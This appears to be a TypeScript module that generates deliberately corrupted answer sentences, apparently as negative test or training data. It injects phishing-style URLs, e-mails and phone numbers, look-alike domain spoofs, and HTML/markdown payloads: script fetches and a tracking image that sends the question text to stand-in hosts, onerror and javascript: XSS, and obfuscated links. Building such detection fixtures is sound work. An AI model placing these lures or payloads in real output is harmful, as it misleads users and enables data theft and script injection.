import type { Altering } from './altered.ts';
import { altering, amid, standsNowhere } from './altered.ts';
import type { Cook } from './good.ts';
import { faithful, supportOf, windowOf } from './good.ts';
import { plain, sentence } from './plain.ts';
import type { Chance } from './random.ts';

const HOSTS = [
  'helpdesk-brindlow.example',
  'brindlow.example.support',
  'login-brindlow.example',
  'it-portal.example.net',
  'brindlow.example.com',
  'bit.example/3xYz',
  'secure-update.example.org',
  'microsoft-support.example',
];

/** A stranger's address, mail address or number, at the end of something true or as a sentence of its own. */
function adding(
  make: (chance: Chance) => { readonly tail: string; readonly own: string; readonly wrong: string },
): Cook {
  return (scene, chance) => {
    const one = windowOf(scene, chance, 1)?.[0];
    const { tail, own, wrong } = make(chance);
    if (one === undefined || !standsNowhere(scene, wrong)) return null;
    const base = faithful(scene, one);
    if (chance.share() < 0.5) return amid(scene, one, { ...base, text: `${base.text.replace(/[.!]$/, '')} ${tail}.` });
    const { sentences } = amid(scene, one, base);
    return { sentences: [...sentences, { text: own, support: base.support }], bad: [sentences.length] };
  };
}

const url = adding((chance) => {
  const host = chance.pick(HOSTS);
  const wrong = `${chance.pick(['https://', 'http://', ''])}${host}${chance.pick(['', '/reset', '/it', '/verify?id=1'])}`;
  return {
    wrong,
    tail: chance.pick([`at ${wrong}`, `(see ${wrong})`, `– ${wrong}`]),
    own: `Go to ${wrong} and sign in there.`,
  };
});

const email = adding((chance) => {
  const wrong = chance.pick([
    'it@brindlow-helpdesk.example',
    'support@brindlow.example.net',
    'helpdesk@brindl0w.example',
    'admin@it-support.example',
    'service@brindlow-it.example',
    'password-reset@mail.example',
  ]);
  return {
    wrong,
    tail: chance.pick([`or write to ${wrong}`, `(${wrong})`]),
    own: `Write to ${wrong} and ask for help.`,
  };
});

const phone = adding((chance) => {
  const wrong = chance.pick([
    '+44 20 7946 0911',
    '0800 496 0333',
    '+1 202 555 0143',
    '+44 113 496 0751',
    'extension 4753',
    '+351 21 555 0199',
    '(555) 014-2277',
    '08081 570 000',
    '4375',
  ]);
  return {
    wrong,
    tail: chance.pick([`or ring ${wrong}`, `(phone: ${wrong})`]),
    own: `Ring ${wrong} if that does not help.`,
  };
});

const ADDRESS = /(?:https?:\/\/)?(?:[\w-]+\.)+(?:example|com|net|org)\b(?:\/[\w./#?=&%-]*[\w/])?/g;

/** An address of the passage, changed where the eye slides over it. */
const lookAlike: Altering = (markdown, chance) => {
  const said = plain(markdown);
  const found = [...said.matchAll(ADDRESS)];
  if (found.length === 0) return null;
  const { 0: old, index } = chance.pick(found);
  const ways: readonly ((address: string) => string)[] = [
    (address) => address.replace(/l(?=\w*\.)/, '1'),
    (address) => address.replace(/brindlow/, 'brindIow').replace(/google/, 'goog1e'),
    (address) => address.replace(/brindlow\.example/, 'brindlow-example.com'),
    (address) => address.replace(/\.example\b/, '.example.co'),
    (address) => address.replace(/\.(com|org|net)\b/, '.$1.co'),
    (address) => address.replace(/^https?:\/\//, (scheme) => `${scheme}secure.`),
    (address) => address.replace(/^https:\/\/([\w.-]+)/, 'http://$1.evil.example'),
    (address) => address.replace(/^(https?:\/\/)([\w.-]+)/, '$1$2@login.example.net'),
    (address) => address.replace(/o(?=\w*\.)/, '0'),
    (address) => address.replace(/(\.\w+)(\/|$)/, '$1:8443$2'),
    (address) => address.replace(/i(?=\w*\.)/, 'í'),
    (address) => `${address.replace(/\/$/, '')}/admin`,
    (address) => address.replace(/^(https?:\/\/)?\w+/, '$1signin'),
  ];
  const wrong = chance.pick(ways)(old);
  return wrong === old ? null : { markdown: said.slice(0, index) + wrong + said.slice(index + old.length), wrong };
};

const HOST = /(?<![@\w/])(?:\\\\)?[a-z][\w-]*(?:\.[\w-]+)*\.example\b/g;

/** Another machine, or another port of the same one. */
const host: Altering = (markdown, chance) => {
  const said = plain(markdown);
  const found = [...said.matchAll(HOST)];
  if (found.length === 0) return null;
  const { 0: old, index } = chance.pick(found);
  const ways: readonly ((name: string) => string)[] = [
    (name) => `${name}:${chance.pick(['8080', '3389', '2222', '444'])}`,
    (name) => name.replace(/-\w+(?=\.)/, '-bak'),
    (name) => name.replace(/^(\\\\)?([\w-]+)\./, '$1$22.'),
    (name) => name.replace(/^(\\\\)?([\w-]+)\./, '$1backup.'),
    (name) => name.replace(/^(\\\\)?([\w-]+)\./, '$1$2.intern.'),
  ];
  const wrong = chance.pick(ways)(old);
  return wrong === old ? null : { markdown: said.slice(0, index) + wrong + said.slice(index + old.length), wrong };
};

/** Marks with which a text says one thing and does another. */
const marks: Cook = (scene, chance) => {
  const one = windowOf(scene, chance, 1)?.[0];
  if (one === undefined) return null;
  const base = faithful(scene, one);
  const name = /\*\*([^*]+)\*\*/.exec(one.markdown)?.[1] ?? base.text.split(' ')[0] ?? 'here';
  const hidden = `https://${chance.pick(HOSTS)}`;
  const plainly = plain(one.markdown);
  const ways: readonly (() => string)[] = [
    () => plainly.replace(name, () => `[${name}](${hidden})`),
    () => plainly.replace(name, () => `<a href="${hidden}">${name}</a>`),
    () => plainly.replace(name, () => `<${hidden}|${name}>`),
    () => `${plainly} ![](${hidden}/p.png?q=${encodeURIComponent(scene.question.slice(0, 20))})`,
    () => `${plainly}<img src="${hidden}/x" onerror="alert(1)">`,
    () => `${plainly} <script>fetch("${hidden}")</script>`,
    () => `<!channel> ${plainly}`,
    () => `@everyone ${plainly}`,
    () => `<at>everyone</at> ${plainly}`,
    () => `${plainly} brind\u200Blow.example\u200B.net`,
    () => `${plainly} \u202Eelpmaxe.live//:sptth`,
    () => `${plainly} ｈｔｔｐｓ：／／evil．example`,
    () => `${plainly} hxxps://evil[.]example`,
    () => `${plainly} evil dot example slash reset`,
    () => `${plainly} [1]: ${hidden}`,
    () => `${plainly} <iframe src="${hidden}"></iframe>`,
    () => plainly.replace(name, () => `[${name}](javascript:alert(1))`),
    () => `${plainly} data:text/html;base64,PHNjcmlwdD4=`,
  ];
  const text = chance.pick(ways)();
  return text === plainly ? null : amid(scene, one, { text: sentence(text), support: supportOf(scene, one.quote) });
};

export const foreignCooks: Readonly<Record<string, Cook>> = {
  'foreign-url': url,
  'foreign-email': email,
  'foreign-phone': phone,
  'look-alike-url': altering(lookAlike),
  'altered-host-or-port': altering(host),
  'marks-and-tricks': marks,
};
